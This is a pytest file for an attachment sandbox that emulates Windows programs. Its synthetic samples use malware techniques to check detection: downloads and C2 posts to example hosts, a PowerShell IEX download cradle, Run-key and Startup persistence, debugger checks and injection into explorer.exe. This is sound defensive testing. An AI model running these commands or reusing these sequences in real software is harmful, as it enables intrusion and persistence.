"""The emulated Windows: what programs ask for is written down, and none gets out, hangs or fills the memory."""

from __future__ import annotations

import functools
import time
from importlib.util import find_spec

import pytest

from tests.files_emulated import Call, Data, Out, Result, program, wide
from tests.files_sandbox import powershell
from tests.workers.attachments.scan import File, view_of
from tests.workers.sandbox.run import FOREVER, behaviours, found, gathered
from workers.attachments.code import PROGRAMS, build_find_code
from workers.code import Code, Language, is_program
from workers.sandbox import emulation
from workers.sandbox.tracing import Traced, Tracer

pytestmark = pytest.mark.skipif(find_spec("speakeasy") is None, reason="the `emulation` extra is not installed")

INNER = program(("kernel32.WinExec", "inner.exe", 0))
SCRIPT = b'CreateObject("WScript.Shell").Run "fromscript.exe"'
STARTUP = "C:\\Users\\user\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe"
RUN = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"


def writes(path: str, content: bytes) -> tuple[Call, ...]:
    """Calls that write a file; they are the first ones of their program."""
    return (
        ("kernel32.CreateFileA", path, 0x40000000, 0, 0, 2, 0, 0),
        ("kernel32.WriteFile", Result(0), Data(content), len(content), Out(20), 0),
        ("kernel32.CloseHandle", Result(0)),
    )


# One program does many things: each costs a tenth of a second at least.
TO_THE_NETWORK: tuple[Call, ...] = (
    ("urlmon.URLDownloadToFileA", 0, "http://a.example/x.exe", "C:\\Users\\Public\\x.exe", 0, 0),
    ("wininet.InternetOpenA", "Mozilla", 0, 0, 0, 0),
    ("wininet.InternetConnectA", Result(1), "c2.example", 443, 0, 0, 3, 0, 0),
    ("wininet.HttpOpenRequestA", Result(2), "POST", "/gate.php", 0, 0, 0, 0x800000, 0),
    ("wininet.HttpSendRequestA", Result(3), 0, 0, "a=b", 3),
    ("wininet.InternetOpenUrlW", Result(1), wide("https://d.example/p?q=1"), 0, 0, 0, 0),
    ("ws2_32.WSAStartup", 0x202, Data(bytes(400))),
    ("ws2_32.gethostbyname", "f.example"),
    ("ws2_32.socket", 2, 1, 6),
    ("ws2_32.connect", Result(8), Data(b"\2\0\x01\xbb\xcb\x00\x71\x4d" + bytes(8)), 16),
    ("ws2_32.socket", 2, 1, 6),
    ("ws2_32.connect", Result(10), Data(b"\2\0\x1f\x90\xc6\x33\x64\x07" + bytes(8)), 16),
)
TO_THE_SYSTEM: tuple[Call, ...] = (
    ("advapi32.RegOpenKeyExA", 0x80000001, RUN, 0, 2, Out(40)),
    ("advapi32.RegSetValueExA", Result(40), "Up", 0, 1, "C:\\a.exe", 9),
    ("kernel32.IsDebuggerPresent",),
    ("kernel32.CheckRemoteDebuggerPresent", -1, Out(41)),
    ("kernel32.GetModuleHandleA", "SbieDll.dll"),
    ("kernel32.Sleep", 600_000),
    ("kernel32.CopyFileA", "C:\\a.exe", STARTUP, 0),
    ("shell32.ShellExecuteW", 0, wide("open"), wide("cmd.exe"), wide("/c whoami"), 0, 0),
    ("shell32.ShellExecuteA", 0, "open", "https://example.com/thanks", 0, 0, 0),
    ("user32.MessageBoxA", 0, "Hello", "World", 0),
)
EXPLORER = 636  # the number of that process in the emulated Windows
INTO_ANOTHER: tuple[Call, ...] = (
    ("kernel32.OpenProcess", 0x1FFFFF, 0, EXPLORER),
    ("kernel32.VirtualAllocEx", Result(0), 0, 4_096, 0x3000, 0x40),
    ("kernel32.WriteProcessMemory", Result(0), Result(1), Data(b"\x90" * 99 + b"\xc3"), 100, 0),
    ("kernel32.CreateRemoteThread", Result(0), 0, 0, Result(1), 0, 0, 0),
)
DOES: dict[str, tuple[tuple[Call | bytes, ...], tuple[str, ...]]] = {
    "network": (
        TO_THE_NETWORK,
        (
            "fetches GET http://a.example/x.exe -> C:\\Users\\Public\\x.exe",
            "connects dns c2.example",
            "fetches POST https://c2.example/gate.php",
            "fetches GET https://d.example/p?q=1",
            "connects tcp f.example:443",
            "connects tcp 198.51.100.7:8080",
        ),
    ),
    "system": (
        TO_THE_SYSTEM,
        (
            f"registers HKEY_CURRENT_USER\\{RUN}\\Up = C:\\a.exe",
            "asks system IsDebuggerPresent",
            "asks system CheckRemoteDebuggerPresent",
            "asks system GetModuleHandleA SbieDll.dll",
            "sleeps 600000",
            f"writes {STARTUP} from C:\\a.exe",
            "starts cmd.exe /c whoami",
            "navigates https://example.com/thanks",
            "shows Hello",
        ),
    ),
    "another process": (
        INTO_ANOTHER,
        (
            "injects writes 100 bytes into C:\\Windows\\explorer.exe (process 1252)",
            "injects starts a thread in C:\\Windows\\explorer.exe (process 1252)",
        ),
    ),
}


def traced(data: bytes, *, ends: float = FOREVER) -> Traced:
    code = Code(part="1", path="setup.exe", language=Language.PROGRAM, text=data.decode("latin-1"))
    return Tracer(ends=ends).trace(code)


@functools.cache
def acts(data: bytes) -> tuple[str, ...]:
    return tuple(f"{act.kind} {act.what}" for act in traced(data).acts)


@pytest.mark.parametrize("bits", [32, 64])
@pytest.mark.parametrize("name", DOES)
def test_what_a_program_does_is_written_down(name: str, bits: int) -> None:
    calls, expected = DOES[name]
    done = acts(program(*calls, bits=bits))
    assert not set(expected) - {_without_number(act) for act in done}, done


def _without_number(act: str) -> str:
    """Numbers of processes are handed out as it comes."""
    head, process, _ = act.partition("(process ")
    return f"{head}(process 1252)" if process else act


def test_what_comes_out_is_run_too() -> None:
    done = acts(program(*writes("C:\\Users\\Public\\e.exe", INNER)))
    assert done[0].startswith("writes C:\\Users\\Public\\e.exe: a program")
    assert "starts inner.exe" in done
    assert "starts fromscript.exe" in acts(program(*writes("C:\\Users\\Public\\d.vbs", SCRIPT)))
    fetches = powershell("IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')")
    assert "fetches GET http://a.example/x" in acts(program(("kernel32.WinExec", fetches, 0)))


def test_an_address_that_it_puts_together_is_told() -> None:
    pieces = ("https://hid", "den.exam", "ple/gate.bin")
    joins: list[Call] = [("kernel32.lstrcatA", Out(30), piece) for piece in pieces]
    behaviour = traced(program(*joins)).behaviour()
    assert behaviour.hidden == ("https://hidden.example/gate.bin",)
    plain = traced(program(("urlmon.URLDownloadToFileW", 0, wide("http://a.example/x"), wide("x"), 0, 0))).behaviour()
    assert behaviour.acts
    assert plain.hidden == ()


def test_code_that_was_not_in_the_program_is_told() -> None:
    copies: tuple[Call, ...] = (
        ("kernel32.VirtualAlloc", 0, 4_096, 0x3000, 0x40),
        ("ntdll.RtlMoveMemory", Result(0), Data(b"\x90\x31\xc0\xc3"), 4),
    )
    run_it = b"\xa1\x00\x10\x40\x00\xff\xd0"  # mov eax, [the first result]; call eax
    assert "evaluates machine code that it has written into memory" in acts(program(*copies, run_it))


@pytest.mark.parametrize("bits", [32, 64])
def test_a_library_is_called(bits: int) -> None:
    assert "starts x.exe" in acts(program(("kernel32.WinExec", "x.exe", 0), bits=bits, library=True))


FIRST: Call = ("kernel32.WinExec", "first.exe", 0)
HOSTILE: dict[str, bytes] = {
    "endless": program(FIRST, b"\xeb\xfe"),
    "endless calls": program(FIRST, ("kernel32.GetTickCount",), b"\xeb\xf3"),
    "memory": program(FIRST, ("kernel32.VirtualAlloc", 0, 0x7F000000, 0x3000, 4), ("kernel32.WinExec", "b", 0)),
    "memory, in pieces": program(FIRST, ("kernel32.VirtualAlloc", 0, 0x1000000, 0x3000, 4), b"\xeb\xe1"),
    "memory at a place that is taken": program(FIRST, ("kernel32.VirtualAlloc", 0x401000, 0x7000000, 0x3000, 4)),
    "a wild jump": program(FIRST, b"\x31\xc0\xff\xe0"),
    "no instruction": program(FIRST, b"\x0f\xff\x0f\xff"),
    "the stack": program(FIRST, b"\xe8\xfb\xff\xff\xff"),
    "an unknown function": program(FIRST, ("nothere.DoesNotExist", 1, 2), ("kernel32.WinExec", "b", 0)),
    "pointers to nowhere": program(FIRST, ("kernel32.lstrcpyA", 0x10, 0x20), ("kernel32.WinExec", 0xDEAD, 0)),
}


@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_program_ends(data: bytes) -> None:
    began = time.process_time()
    ran = emulation.run(data, name="a.exe", seconds=1.5)
    assert ("starts", "first.exe") in [(entry.kind, entry.what) for entry in ran.entries]
    # Bounded is what counts; the machine may be busy.
    assert time.process_time() - began < 20


BROKEN: dict[str, bytes] = {
    "no program": b"MZ",
    "headers only": program(FIRST)[:300],
    "cut off": program(FIRST)[:1_100],
    "of another machine": program(FIRST).replace(b"PE\0\0\x4c\x01", b"PE\0\0\xc4\x01"),
    "without an entry": program(FIRST)[:0xA8] + b"\xff\xff\xff\x7f" + program(FIRST)[0xAC:],
    "a huge stack": program(FIRST).replace((0x100000).to_bytes(4, "little"), (0x7FF00000).to_bytes(4, "little")),
    "a huge image": program(FIRST).replace((0x2000).to_bytes(4, "little"), (0x7FFFF000).to_bytes(4, "little")),
}


@pytest.mark.parametrize("data", BROKEN.values(), ids=BROKEN)
def test_a_broken_program_does_no_harm(data: bytes) -> None:
    emulation.run(data, name="a.exe", seconds=0.7)


def test_time_that_ends_is_told() -> None:
    emulation.load()
    report = gathered(("setup.exe", program(FIRST, b"\xeb\xfe")), seconds=4.0)
    assert report.is_cut_short
    assert "setup.exe" in "".join(report.problems)
    assert [act.what for act in report.view.behaviour[0].acts] == ["first.exe"]


def test_where_too_little_time_is_left_nothing_is_begun() -> None:
    cut = traced(INNER, ends=time.monotonic() + 0.3)
    assert cut.is_cut_short
    assert not cut.acts


CLEAN: dict[str, File] = {
    "a message": ("hello.exe", program(("user32.MessageBoxA", 0, "Hello", "World", 0))),
    "a viewer of its settings": (
        "settings.exe",
        program(
            ("advapi32.RegCreateKeyExA", 0x80000001, "Software\\Example", 0, 0, 0, 2, 0, Out(40), 0),
            ("advapi32.RegSetValueExA", Result(40), "Theme", 0, 1, "dark", 5),
            ("kernel32.IsDebuggerPresent",),
            ("kernel32.Sleep", 200),
            ("shell32.ShellExecuteA", 0, "open", "notepad.exe", "readme.txt", 0, 1),
            bits=64,
        ),
    ),
    "one that unpacks itself": (
        "archive.exe",
        program(*writes("C:\\Temp\\setup.exe", INNER), ("kernel32.WinExec", "C:\\Temp\\setup.exe", 1)),
    ),
    "one that looks for a newer version": (
        "update.exe",
        program(("urlmon.URLDownloadToFileA", 0, "https://www.example.com/version.txt", "version.txt", 0, 0)),
    ),
    "a library": ("plain.dll", program(("kernel32.GetTickCount",), library=True)),
}


@pytest.mark.parametrize("file", CLEAN.values(), ids=CLEAN)
def test_a_clean_program_has_next_to_no_weight(file: File) -> None:
    assert [(finding.id, finding.weight) for finding in found("", file) if finding.weight > 0.5] == []


def test_programs_that_are_not_run_are_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(emulation, "is_installed", lambda: False)
    report = gathered(("setup.exe", INNER), ("a.js", b"new ActiveXObject('WScript.Shell').Run('a.exe')"))
    assert report.problems == ("setup.exe: needs speakeasy-emulator to be run, which is not installed",)
    assert [behaviour.path for behaviour in report.view.behaviour] == ["a.js"]


def test_no_more_programs_are_found_than_wanted() -> None:
    programs = ((f"{number}.exe", INNER + bytes((number,))) for number in range(PROGRAMS + 1))  # no two are the same
    view, parts = view_of(*programs, ("a.js", b"alert(1)"))
    codes = build_find_code()(view, parts, seconds=20.0)
    assert [code.language for code in codes.found] == [Language.PROGRAM] * PROGRAMS + [Language.JAVASCRIPT]
    assert codes.problems == (f"more than {PROGRAMS} programs: the rest was not run",)
    none = build_find_code(programs=0)(view, parts, seconds=20.0)
    assert [code.language for code in none.found] == [Language.JAVASCRIPT]
    assert none.problems == ()


def test_what_is_a_program() -> None:
    assert is_program(INNER)
    assert not any(map(is_program, (b"", b"MZ", b"MZ" + bytes(100), b"PK\x03\x04" + INNER, INNER[:64])))
    assert behaviours(("notes.txt", b"MZ is how programs begin"), ("a.pdf", b"%PDF-1.7")) == ()
